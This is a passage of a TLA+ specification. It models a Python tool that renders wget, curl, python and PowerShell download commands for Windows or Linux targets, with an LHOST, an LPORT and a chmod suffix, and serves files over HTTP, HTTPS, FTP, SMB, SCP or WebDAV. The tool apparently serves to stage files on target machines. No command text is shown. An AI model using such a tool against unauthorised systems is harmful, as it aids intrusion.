        /\ out.exception = None
        /\ \E i, j \in DOMAIN out.printed :
              i < j /\ out.printed[i] = "Windows commands"
                    /\ out.printed[j] = "Linux commands"
        /\ \A t \in CatalogTypes : \E i \in DOMAIN out.printed : out.printed[i] = t
        /\ srv = NoServer

\* validate_file has looked at the input file of the configuration and it
\* is missing, no regular file, or not readable
InvalidInput ==
    /\ config # NoConfig
    /\ Resolve(full_path) \in DOMAIN fs
    /\ ~(fs[Resolve(full_path)].kind = "file" /\ fs[Resolve(full_path)].readable)

C9_AsStated ==
    (srv.failed # None /\ pc \in {"serve_returned", "returned", "exited"}) =>
        /\ srv.result = "False"
        /\ out.exception = None
        /\ (pc = "exited" => out.exit_code > 0)

\* C10: once the operator has interrupted a blocking server, serve() has
\* returned True and no exception has left it; a run of the tool that has
\* ended has exit status 0.
C10_Interrupt ==
    srv.interrupted =>
        /\ srv.result = "True"
        /\ out.exception = None
        /\ pc \in {"serve_returned", "returned", "exited"}
        /\ (pc = "exited" => out.exit_code = 0)

\* an HTTP run of the tool, interrupted while serve_forever blocked, ended
\* with status 0
C10_Witness ==
    /\ pc = "exited"
    /\ srv.interrupted
    /\ srv.handler = "serve_http"
    /\ srv.state = "stopped"
    /\ out.exit_code = 0

\* the first template of the default catalog, in the order of its
\* add_command calls, of the OS and command type that supports the protocol
FirstTemplate(os_type, command_type, protocol) ==
    LET first == CHOOSE i \in DOMAIN DefaultCatalog :
                    /\ CatalogHas(os_type, command_type, protocol)
                       => /\ DefaultCatalog[i][1] = os_type
                          /\ DefaultCatalog[i][2] = command_type
                          /\ protocol \in DefaultCatalog[i][3].protocols
                          /\ \A j \in 1..(i - 1) :
                                ~(/\ DefaultCatalog[j][1] = os_type
                                  /\ DefaultCatalog[j][2] = command_type
                                  /\ protocol \in DefaultCatalog[j][3].protocols)
    IN DefaultCatalog[first][3].template

\* C11: once the run has copied, the clipboard holds the rendering of the
\* first template in insertion order among those get_commands returns, with
\* the chmod suffix if the run appends it, which is the command displayed
\* as [1]; the commands are displayed before the copy, and FileServer is
\* configured and called only after it.
C11_Clipboard ==
    /\ out.copied =>
          /\ out.clipboard =
                SimpleCommand_generate(
                    FirstTemplate(locals.target_os, locals.command_type, locals.protocol),
                    context).val
                \o (IF locals.needs_chmod THEN ChmodSuffix ELSE <<>>)
          /\ out.displayed # <<>>
          /\ out.clipboard = out.displayed[1][2]
    /\ pc = "copy" => out.displayed = locals.command_tuples /\ out.displayed # <<>>
    /\ ~out.copied => (out.clipboard = <<>> /\ (srv.caller # "FileServer" => srv = NoServer /\ config = NoConfig))

\* a windows powershell run over HTTP, where get_commands returns several
\* templates: the first is on the clipboard and the server is serving
C11_Witness ==
    /\ out.copied
    /\ Len(locals.command_tuples) > 1
    /\ locals.command_tuples[1][2] # locals.command_tuples[Len(locals.command_tuples)][2]
    /\ out.clipboard = out.displayed[1][2]
    /\ srv.state = "serving"

\* the run is one of the tool, past create_default_registry
RegistryCreated == pc \notin {"idle", "main"} /\ srv.caller # "FileServer"

Encrypted == {"HTTPS", "FTPS", "WEBDAVS"}

\* C13: openssl is run at most once in a run, and only when the protocol is
\* HTTPS, FTPS or WEBDAVS and the cached pair was found not to be there; a
\* run that found both files there ran no openssl and left both as they
\* were; a run of any other protocol ran no openssl and looked at neither
\* file.
C13_CertCache ==
    /\ srv.cert_runs \in {0, 1}
    /\ srv.cert_runs > 0 =>
          /\ Upper(config.protocol) \in Encrypted
          /\ srv.cache = "missing"
    /\ srv.cache = "present" =>
          /\ srv.cert_runs = 0
          /\ fs[cert_path] = PlainFile
          /\ fs[key_path] = PlainFile
    /\ Upper(config.protocol) \notin Encrypted =>
          /\ srv.cert_runs = 0
          /\ srv.cache = None
          /\ cert_path \notin DOMAIN fs
          /\ key_path \notin DOMAIN fs

\* an HTTPS server that serves with the cached pair
C13_Witness ==
    /\ config.protocol = "HTTPS"
    /\ srv.cache = "present"
    /\ srv.state = "serving"
    /\ srv.cert_runs = 0
    /\ fs[cert_path] = PlainFile

(***************************************************************************)
(* Concurrent HTTPS runs on one certificate cache.  Each run is at its     *)
(* handler, serve_https: the two os.path.exists calls, the openssl run of  *)
(* generate_self_signed_cert (which writes the key file, then the          *)
(* certificate file), and load_cert_chain (which reads the certificate     *)
(* file, then the key file and rejects a key that does not match).  pem    *)
(* says for each file whether it is there and which run wrote it, 0 being  *)
(* a run before these.                                                     *)
(***************************************************************************)
Invocations == 1..MaxInvocations

NoPem == [there |-> FALSE, by |-> 0]
WrittenBy(i) == [there |-> TRUE, by |-> i]

NoInvocation ==
    [pc |-> "exists_cert", saw_cert |-> Absent, found |-> None, wrote |-> FALSE,
     loaded |-> [cert |-> NoPem, key |-> NoPem]]

\* what os.path.exists looks at
PemFile(file) == IF file.there THEN PlainFile ELSE Absent

InitCert ==
    /\ IdleGenerate
    /\ IdleRegistry
    /\ IdleRun
    /\ fs = NoLooks
    /\ invocations = [i \in Invocations |-> NoInvocation]
    /\ pem \in [cert : {NoPem, WrittenBy(0)}, key : {NoPem, WrittenBy(0)}]

\* serve_https line 93, left operand of 'and': a missing certificate decides
\* without a look at the key
ExistsCert ==
    /\ \E i \in Invocations :
        /\ invocations[i].pc = "exists_cert"
        /\ invocations' = [invocations EXCEPT ![i] =
              IF exists(PemFile(pem.cert))
              THEN [@ EXCEPT !.pc = "exists_key", !.saw_cert = PemFile(pem.cert)]
              ELSE [@ EXCEPT !.pc = "openssl_key", !.found = "missing"]]
    /\ UNCHANGED <<pem, genVars, regVars, runVars>>

\* serve_https line 93, right operand
ExistsKey ==
    /\ \E i \in Invocations :
        /\ invocations[i].pc = "exists_key"
        /\ invocations' = [invocations EXCEPT ![i] =
              IF PairCached(invocations[i].saw_cert, PemFile(pem.key))
              THEN [@ EXCEPT !.pc = "load_cert", !.found = "present"]
              ELSE [@ EXCEPT !.pc = "openssl_key", !.found = "missing"]]
    /\ UNCHANGED <<pem, genVars, regVars, runVars>>

\* generate_self_signed_cert: openssl writes the new key to -keyout, or
\* fails, and serve_https returns False
OpensslKey ==
    /\ \E i \in Invocations :
        /\ invocations[i].pc = "openssl_key"
        /\ \/ /\ pem' = [pem EXCEPT !.key = WrittenBy(i)]
              /\ invocations' = [invocations EXCEPT ![i].pc = "openssl_cert",
                                                    ![i].wrote = TRUE]
           \/ /\ pem' = pem
              /\ invocations' = [invocations EXCEPT ![i].pc = "failed"]
    /\ UNCHANGED <<genVars, regVars, runVars>>

\* generate_self_signed_cert: openssl writes the certificate to -out
OpensslCert ==
    /\ \E i \in Invocations :
        /\ invocations[i].pc = "openssl_cert"
        /\ pem' = [pem EXCEPT !.cert = WrittenBy(i)]
        /\ invocations' = [invocations EXCEPT ![i].pc = "load_cert"]
    /\ UNCHANGED <<genVars, regVars, runVars>>

\* load_cert_chain, line 103: the certificate file is read
LoadCert ==
    /\ \E i \in Invocations :
        /\ invocations[i].pc = "load_cert"
        /\ invocations' = [invocations EXCEPT ![i].pc = "load_key",
                                              ![i].loaded.cert = pem.cert]
    /\ UNCHANGED <<pem, genVars, regVars, runVars>>

\* load_cert_chain, line 103: the key file is read; a key that is not the
\* certificate's raises ssl.SSLError, which the handler logs, returning False
LoadKey ==
    /\ \E i \in Invocations :
        /\ invocations[i].pc = "load_key"
        /\ invocations' = [invocations EXCEPT
              ![i].loaded.key = pem.key,
              ![i].pc = IF pem.key = invocations[i].loaded.cert
                        THEN "serving" ELSE "failed"]
    /\ UNCHANGED <<pem, genVars, regVars, runVars>>

NextCert ==
    \/ ExistsCert
    \/ ExistsKey
    \/ OpensslKey
    \/ OpensslCert
    \/ LoadCert
    \/ LoadKey

SpecCert == InitCert /\ [][NextCert]_vars

\* C14: nothing but the existence check stands between a run and openssl:
\* a run writes the files only after it found the pair missing, and a run
\* that has read both files has read files that exist; where the
\* certificate and the key it read were written by different openssl runs,
\* another run has been writing the files at the same time (and the load
\* fails); a run that serves has loaded a pair of one openssl run.
C14_Race ==
    \A i \in DOMAIN invocations :
        /\ invocations[i].wrote => invocations[i].found = "missing"
        /\ (invocations[i].pc \in {"serving", "failed"}
                /\ invocations[i].loaded.cert.there) =>
              /\ invocations[i].loaded.key.there
              /\ invocations[i].loaded.cert # invocations[i].loaded.key =>
                    \E j \in DOMAIN invocations : j # i /\ invocations[j].wrote
              /\ invocations[i].pc = "serving" =>
                    invocations[i].loaded.cert = invocations[i].loaded.key

\* two runs both found no certificate, both ran openssl on the same paths,
\* and the first has loaded its own certificate with the key of the second
C14_Witness ==
    /\ invocations # <<>>
    /\ invocations[1].found = "missing" /\ invocations[2].found = "missing"
    /\ invocations[1].saw_cert = Absent /\ invocations[2].saw_cert = Absent
    /\ invocations[1].wrote /\ invocations[2].wrote
    /\ invocations[1].loaded = [cert |-> WrittenBy(1), key |-> WrittenBy(2)]

\* the list of a registry for (os_type, command_type), empty if there is none
ListOf(registry, os_type, command_type) ==
    Get(Get(registry, os_type, <<>>), command_type, <<>>)

\* the command types a registry has a list for under os_type
TypesOf(registry, os_type) == Keys(Get(registry, os_type, <<>>))

\* C15: a call add_command(os, command_type, template) with os windows or
\* linux returns normally, and after it the list of (os, command_type) is
\* the list before with the template appended (so a list is there now, one
\* longer, the earlier elements in place, also when the template was in
\* it already), while the list of every other pair, and the set of lists,
\* is as before.
C15_AddCommand ==
    [][(call'.op = "add_command" /\ call'.os_type \in {"windows", "linux"}
            /\ <<commands, added, call>> # <<commands', added', call'>>) =>
          /\ call'.raised = None
          /\ call'.command_type \in TypesOf(commands', call'.os_type)
          /\ \A os_type \in RegOS, command_type \in QueryTypes :
                ListOf(commands', os_type, command_type) =
                    IF os_type = call'.os_type /\ command_type = call'.command_type
                    THEN ListOf(commands, os_type, command_type) \o call'.result
                    ELSE ListOf(commands, os_type, command_type)
          /\ \A os_type \in RegOS :
                TypesOf(commands', os_type) =
                    IF os_type = call'.os_type
                    THEN TypesOf(commands, os_type) \cup {call'.command_type}
                    ELSE TypesOf(commands, os_type)
          /\ Keys(commands') = Keys(commands)
    ]_vars

\* a template was added a second time to its list, which now holds it twice,
\* while another list is there too
C15_Witness ==
    /\ call.op = "add_command"
    /\ call.raised = None
    /\ Len(ListOf(commands, call.os_type, call.command_type)) = 2
    /\ ListOf(commands, call.os_type, call.command_type)[1] = call.result[1]
    /\ ListOf(commands, call.os_type, call.command_type)[2] = call.result[1]
    /\ \E os_type \in RegOS, command_type \in RegTypes :
          /\ <<os_type, command_type>> # <<call.os_type, call.command_type>>
          /\ ListOf(commands, os_type, command_type) # <<>>

\* C16: a call of add_command with an os other than windows and linux raises
\* ValueError ("Invalid OS type") and the registry after it is the registry
\* before it: no key for the os, no command type, no template.
C16_InvalidOS ==
    [][(call'.op = "add_command" /\ call'.os_type \notin {"windows", "linux"}) =>
          /\ call'.raised = "ValueError"
          /\ commands' = commands
          /\ Keys(commands') = {"windows", "linux"}
    ]_vars

\* add_command('macos', ...) has raised on a registry that holds commands
C16_Witness ==
    /\ call.op = "add_command"
    /\ call.os_type = "macos"
    /\ call.raised = "ValueError"
    /\ added # <<>>
    /\ Keys(commands) = {"windows", "linux"}

\* the protocol identifiers
Protocols == {"HTTP", "HTTPS", "FTP", "SMB", "SCP"}

\* C17: the supported protocols of a template are never empty: not for a
\* template constructed with any set of protocols (with none, or the empty
\* set, they are exactly HTTP), not for the templates of the default
\* catalog, and not for any template added to or held by a registry.
C17_Protocols ==
    /\ \A given \in SUBSET Protocols :
          /\ Command_init("t", <<"t">>, None, given).protocols # {}
          /\ Command_init("t", <<"t">>, None, given).protocols =
                IF given = {} THEN {"HTTP"} ELSE given
    /\ \A i \in DOMAIN DefaultCatalog :
          /\ DefaultCatalog[i][3].protocols # {}
          /\ DefaultCatalog[i][3].protocols \subseteq Protocols
    /\ \A i \in DOMAIN added : added[i][3].protocols # {}
    /\ \A os_type \in RegOS, command_type \in QueryTypes :
          \A i \in DOMAIN ListOf(commands, os_type, command_type) :
              ListOf(commands, os_type, command_type)[i].protocols # {}

\* the template constructed with no protocols is in a registry and
\* get_commands has returned it for HTTP
C17_Witness ==
    /\ call.op = "get_commands"
    /\ call.protocol = "HTTP"
    /\ \E i \in DOMAIN call.result :
          /\ call.result[i].name = "c"
          /\ call.result[i].protocols = {"HTTP"}

\* C18 as stated: a run of the tool that has ended with a non-zero exit
\* status has logged one error message and no exception has ended it.
C18_AsStated ==
    (pc = "exited" /\ srv.caller # "FileServer" /\ out.exit_code # 0) =>
        /\ out.exception = None
        /\ Len(out.errors) = 1

\* the input file of the run is a bare file name
BareName == ~isabs(locals.input_file) /\ locals.input_file.dirs = <<>>

\* C19 as stated: in a run whose input file is a bare file name, the
\* server's directory is the --input-folder directory, the file that
\* validate_file checks is the one of that name in that directory, and so is
\* the file a linux run has inspected for the chmod suffix.
C19_AsStated ==
    (srv.caller = "main" /\ BareName) =>
        /\ config.directory = options.INPUTFOLDER
        /\ Resolve(full_path) = join(options.INPUTFOLDER, locals.input_file)
        /\ locals.target_os = "linux" =>
              Resolve(locals.input_file) = join(options.INPUTFOLDER, locals.input_file)

\* a list of command types is in lexicographic order, each type once
Lexicographic(list) ==
    \A i, j \in DOMAIN list : i < j => TypeRank(list[i]) < TypeRank(list[j])

\* the lists of three types of the catalog in all their orders
AnyOrder ==
    {list \in [1..3 -> {"wget", "curl", "python"}] :
        \A i, j \in 1..3 : i # j => list[i] # list[j]}

\* for a candidate list in any order, the menu is the list in lexicographic
\* order and each position returns the entry shown there
SortedAnyOrder ==
    \A list \in AnyOrder :
        /\ Lexicographic(sorted(list))
        /\ {sorted(list)[i] : i \in 1..3} = {list[i] : i \in 1..3}
        /\ \A position \in 1..3 :
              select_command_type(list, position) = sorted(list)[position]

\* C20: the menu of command types shows the types get_command_types
\* returned for the OS and protocol of the run, in lexicographic order, and
\* the command type of the run is the entry at the selected position; the
\* same for a candidate list in any order.
C20_Sorted ==
    /\ SortedAnyOrder
    /\ locals.menu # <<>> =>
          /\ Lexicographic(locals.menu)
          /\ {locals.menu[i] : i \in DOMAIN locals.menu} =
                {t \in CatalogTypes : CatalogHas(locals.target_os, t, locals.protocol)}
          /\ locals.selection \in DOMAIN locals.menu
          /\ locals.command_type = locals.menu[locals.selection]

\* a linux HTTP run, whose types come from the registry as curl, wget,
\* python: the second entry of the menu was selected and python is the type
C20_Witness ==
    /\ locals.target_os = "linux"
    /\ locals.protocol = "HTTP"
    /\ locals.menu = <<"curl", "python", "wget">>
    /\ locals.selection = 2
    /\ locals.command_type = "python"
    /\ get_command_types(commands, "linux", "HTTP") = <<"curl", "wget", "python">>

\* the steps of a run in the order of the code
Steps ==
    <<"main", "list_commands", "get_target_os", "get_lhost", "get_protocol",
      "get_lport", "get_command_type", "get_input_file", "get_output_file",
      "get_commands", "generate_command_tuples", "display_commands", "copy",
      "server_config", "serve", "dispatch",
      "serve_http", "serve_https", "https_start", "serve_ftp", "ftp_start",
      "serve_ftps", "ftps_pip", "ftps_start", "serve_webdav", "webdav_cert",
      "webdav_start", "serve_smb", "smb_wait", "serve_scp", "serve_forever",
      "serve_returned", "returned", "exited">>

Position(step) == CHOOSE i \in DOMAIN Steps : Steps[i] = step

\* pip install failed in this run
InstallFailed == srv.failed = "pip" /\ srv.installs > 0

\* what holds of the installs of a run: at most one, and after a failed one
\* serve has returned False with no server started, and the tool has exited
\* with a non-zero status
OneInstall ==
    /\ srv.installs \in {0, 1}
    /\ InstallFailed =>
          /\ srv.result = "False"
          /\ srv.state = "none"
          /\ pc \in {"serve_returned", "returned", "exited"}
          /\ (pc = "exited" => out.exit_code > 0)

\* C21 as stated: at most one install per run, a failed install is fatal,
\* and no step is made again after it failed: in particular a run whose fzf
\* command has failed is not at the file selection again.
C21_AsStated ==
    /\ OneInstall
    /\ FzfFailures > 0 => pc # "get_input_file"

\* C21, amended: at most one install per run and a failed install is fatal;
\* every step of a run goes on to a later step of the code, but for one:
\* when running the fzf command raised SubprocessError, select_file prints
\* that and makes the file selection again.
C21_NoRetry ==
    /\ []OneInstall
    /\ [][\/ Position(pc') > Position(pc)
          \/ /\ pc = "get_input_file"
             /\ pc' = pc
             /\ options.INPUTFILE = NoPath
             /\ out'.printed = Append(out.printed, "Failed to run fzf command")
             /\ locals' = locals
       ]_vars

\* an FTP run of the tool whose one pip install failed: serve returned False,
\* no server was started, the exit status is 1
C21_Witness ==
    /\ pc = "exited"
    /\ srv.handler = "serve_ftp"
    /\ srv.installs = 1
    /\ InstallFailed
    /\ out.errors = <<"Failed to install pyftpdlib">>
    /\ out.exit_code = 1

(***************************************************************************)
(* C22: literal, order-independent rendering.                              *)
(***************************************************************************)
\* the names generate substitutes under the protocol of the context
Placeholders ==
    IF SchemeProtocol THEN StandardNames \cup {"PROTO"} ELSE StandardNames

\* the orders in which the names of a set can be taken
RECURSIVE Orders(_)
Orders(names) ==
    IF names = {} THEN {<<>>}
    ELSE UNION {{<<n>> \o o : o \in Orders(names \ {n})} : n \in names}

\* literal string replacement of the tokens, one name after the other
RECURSIVE ReplacedInOrder(_, _, _)
ReplacedInOrder(t, order, sub) ==
    IF order = <<>> THEN t
    ELSE ReplacedInOrder(Replace(t, Placeholder(Head(order)), sub[Head(order)]),
                         Tail(order), sub)

HasToken(v) == \E i \in DOMAIN v : v[i] \in {"{", "}"}

TokenValues ==
    \E n \in StandardNames : HasToken(FormatKwargs(gen_context)[n])

StepHandler ==
    CASE pc = "serve_http" -> "serve_http"
      [] pc \in {"serve_https", "https_start"} -> "serve_https"
      [] pc \in {"serve_ftp", "ftp_start"} -> "serve_ftp"
      [] pc \in {"serve_ftps", "ftps_pip", "ftps_start"} -> "serve_ftps"
      [] pc \in {"serve_webdav", "webdav_cert", "webdav_start"} -> "serve_webdav"
      [] pc \in {"serve_smb", "smb_wait"} -> "serve_smb"
      [] pc = "serve_scp" -> "serve_scp"
      [] OTHER -> srv.handler

\* the protocol of the configuration, upper-cased
Served == Upper(config.protocol)

Dispatched == srv.validated /\ Position(pc) > Position("dispatch")

ServeOver == pc \in {"serve_returned", "returned", "exited"}

\* C23: once the file is validated and serve has chosen, the handler that
\* runs is the one of the upper-cased protocol and no step of another handler
\* is ever taken: HTTP, HTTPS, FTP, FTPS, SMB and SCP have their own handler,
\* WEBDAV and WEBDAVS the WebDAV handler.  For any other protocol no handler
\* runs, nothing is started and serve returns False with 'Unsupported
\* protocol'.  For SCP nothing is started or waited for, serve returns True
\* and a run of the tool exits 0.
C23_Dispatch ==
    /\ srv.handler # None => srv.validated
    /\ Dispatched =>
         /\ StepHandler = srv.handler
         /\ srv.handler =
               CASE Served = "HTTP"  -> "serve_http"
                 [] Served = "HTTPS" -> "serve_https"
                 [] Served = "FTP"   -> "serve_ftp"
                 [] Served = "FTPS"  -> "serve_ftps"
                 [] Served = "SMB"   -> "serve_smb"
                 [] Served = "SCP"   -> "serve_scp"
                 [] Served \in {"WEBDAV", "WEBDAVS"} -> "serve_webdav"
                 [] OTHER -> None
         /\ srv.handler = None =>
               /\ ServeOver
               /\ srv.result = "False"
               /\ srv.state = "none"
               /\ out.errors # <<>>
               /\ out.errors[Len(out.errors)] = "Unsupported protocol"
         /\ Served = "SCP" =>
               /\ pc = "serve_scp" \/ ServeOver
               /\ srv.state = "none"
               /\ srv.failed = None
               /\ ServeOver => srv.result = "True"
               /\ pc = "exited" => out.exit_code = 0

\* C23 witness: a run of the tool serving over SCP has ended with status 0,
\* serve having returned True without a server.
C23_Witness ==
    /\ pc = "exited"
    /\ srv.caller = "main"
    /\ srv.validated
    /\ config.protocol = "SCP"
    /\ srv.handler = "serve_scp"
    /\ srv.result = "True"
    /\ srv.state = "none"
    /\ out.exit_code = 0

(***************************************************************************)
(* C24: the command types of the default catalog.                          *)
(***************************************************************************)
\* the protocols of the -p choices and of the protocol menu
Selectable == {"HTTP", "HTTPS", "FTP", "SMB", "SCP"}

\* the run asks for the command type and the targets are windows over SCP
WindowsScp ==
    /\ options.TYPE = None
    /\ locals.target_os = "windows"
    /\ locals.protocol = "SCP"

\* the run is making its choices, up to the one of the command type
Choosing ==
    pc \in {"get_target_os", "get_lhost", "get_protocol", "get_lport",
            "get_command_type"}

\* C24: in a run of the tool, while it makes its choices, get_command_types
\* on the registry that create_default_registry returned is empty for windows and SCP and has at
\* least one type for every other OS of windows, linux and protocol of HTTP,
\* HTTPS, FTP, SMB, SCP; a run that is to ask for the command type with
\* windows and SCP chosen gets no further than that: it logs 'No commands
\* available' and exits with status 1.
C24_Types ==
    RegistryCreated =>
        /\ Choosing =>
              \A os_type \in {"windows", "linux"}, protocol \in Selectable :
                  (get_command_types(commands, os_type, protocol) = <<>>)
                      <=> (os_type = "windows" /\ protocol = "SCP")
        /\ WindowsScp =>
              /\ pc \in {"get_lport", "get_command_type", "exited"}
              /\ pc = "exited" =>
                    /\ out.exit_code = 1
                    /\ out.errors = <<"No commands available">>
                    /\ locals.command_type = None

\* C24 witness: windows and SCP were chosen from the menus and the run has
\* exited with status 1.
C24_Witness ==
    /\ pc = "exited"
    /\ options.TARGETOS = None
    /\ options.PROTOCOL = None
    /\ WindowsScp
    /\ out.errors = <<"No commands available">>
    /\ out.exit_code = 1

====
